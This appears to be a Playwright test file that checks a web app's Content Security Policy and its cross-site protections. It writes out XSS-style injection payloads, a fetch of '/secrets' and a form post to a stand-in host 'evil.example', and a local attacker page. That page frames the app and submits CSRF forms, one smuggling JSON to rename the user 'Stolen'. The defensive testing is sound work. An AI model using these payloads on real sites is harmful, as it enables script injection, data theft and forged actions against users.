import { once } from 'node:events';
import { createServer } from 'node:http';
import { call, registerQuietly } from '../support/people.ts';
import { expect, test } from '../support/test.ts';

/** What a hole in a page would let in, tried on a real page: the browser has to stop it by the page's policy. */

/** Runs in the page. As text, because each line is what linters rightly forbid. */
const attempts = `
  window.ran = [];
  window.stopped = [];
  document.addEventListener('securitypolicyviolation', (event) => window.stopped.push(event.effectiveDirective));
  const other = 'http://evil.example';
  const add = (tag, fields, where = document.body) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(fields)) element[name] = value;
    where.append(element);
    return element;
  };
  add('script', { textContent: 'ran.push("an inline script")' });
  add('script', { src: other + '/a.js' });
  add('script', { src: 'data:text/javascript,ran.push("a script as data")' });
  add('div', { innerHTML: '<svg onload="ran.push(1)"></svg><button id="pressed" onclick="ran.push(\\'a handler\\')"></button>' });
  document.getElementById('pressed').click();
  add('a', { href: 'javascript:ran.push("an address")' }).click();
  setTimeout('ran.push("text as code")');
  setTimeout(() => { try { new Function('ran.push("a function of text")')(); } catch {} });
  add('style', { textContent: '* { color: rgb(1, 2, 3) !important }' });
  add('link', { rel: 'stylesheet', href: other + '/a.css' });
  add('img', { src: other + '/a.png' });
  add('video', { src: other + '/a.mp4' });
  add('iframe', { src: other });
  add('object', { data: other });
  add('base', { href: other }, document.head);
  fetch(other + '/secrets').catch(() => undefined);
  try { new Worker(URL.createObjectURL(new Blob(['1']))); } catch {}
  const form = add('form', { action: other + '/caught', method: 'post' });
  form.submit();
`;

test('scripts, frames, forms and loads that are not ours are stopped', async ({ context }) => {
  // Not watched: each attempt is a complaint of the browser.
  const page = await context.newPage();
  const left: string[] = [];
  // What the policy stops is a request, too, that fails before it leaves.
  page.on('requestfinished', (request) => {
    if (request.url().startsWith('http://evil.example')) left.push(request.url());
  });
  page.on('requestfailed', (request) => {
    const why = request.failure()?.errorText;
    if (request.url().startsWith('http://evil.example') && why !== 'csp')
      left.push(`${request.url()} ${why}`);
  });
  await page.goto('/');
  const colour = () => page.evaluate(() => getComputedStyle(document.body).color);
  const before = await colour();
  await page.evaluate(attempts);
  await expect
    .poll(async () => {
      const stopped: unknown = await page.evaluate('[...new Set(window.stopped)].sort()');
      return stopped;
    })
    .toEqual(
      expect.arrayContaining([
        'base-uri',
        'connect-src',
        'form-action',
        'frame-src',
        'img-src',
        'media-src',
        'object-src',
        'script-src',
        'script-src-attr',
        'script-src-elem',
        'style-src-elem',
        'worker-src',
      ]),
    );
  expect(await page.evaluate('window.ran')).toEqual([]);
  expect(await colour()).toBe(before);
  expect(left).toEqual([]);
});

/** Another site than `localhost`, as cookies see it, on this machine: a browser lets no farther one ask us at all. */
async function startOtherSite(page: string): Promise<{ url: string; stop: () => void }> {
  const server = createServer((_request, response) => {
    response.writeHead(200, { 'content-type': 'text/html' }).end(page);
  });
  await once(server.listen(0, '127.0.0.1'), 'listening');
  const address = server.address();
  return {
    url: `http://127.0.0.1:${typeof address === 'object' && address !== null ? address.port : 0}/`,
    stop: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}

test('a page of another site can neither frame ours nor act in a person’s name', async ({
  context,
  baseURL,
  circumstances: { language },
}) => {
  const site = baseURL ?? '';
  await registerQuietly(context, language);
  const other = await startOtherSite(`
    <iframe src="${site}/"></iframe><iframe src="${site}/dashboard/settings"></iframe>
    <form method="post" target="_blank" action="${site}/api/auth/logout"><button id="out">x</button></form>
    <form method="post" target="_blank" enctype="text/plain" action="${site}/api/settings">
      <input name='{"firstname":"' value='Stolen"}'><button id="name">x</button></form>`);
  const page = await context.newPage();
  await page.goto(other.url);
  const framed = page.frames().filter((frame) => frame.parentFrame() !== null);
  expect(framed).toHaveLength(2);
  for (const frame of framed) {
    // A frame is there before its refusal is.
    await expect.poll(() => frame.url()).toMatch(/^chrome-error:/);
    expect(await frame.locator('#root').count()).toBe(0);
  }
  for (const id of ['out', 'name']) {
    const opened = context.waitForEvent('page');
    const answered = context.waitForEvent('response', (response) =>
      response.url().startsWith(`${site}/api/`),
    );
    await page.locator(`#${id}`).click();
    expect((await answered).status()).toBeGreaterThanOrEqual(400);
    await (await opened).close();
  }
  const read = await page.evaluate(
    async (address) =>
      fetch(address, { credentials: 'include', headers: { 'X-Requested-With': 'XMLHttpRequest' } }).then(
        () => 'read',
        () => 'stopped',
      ),
    `${site}/api/settings`,
  );
  expect(read).toBe('stopped');
  const settings = await call(context, 'GET', '/api/settings');
  expect(JSON.stringify(settings)).not.toContain('Stolen');
  other.stop();
});
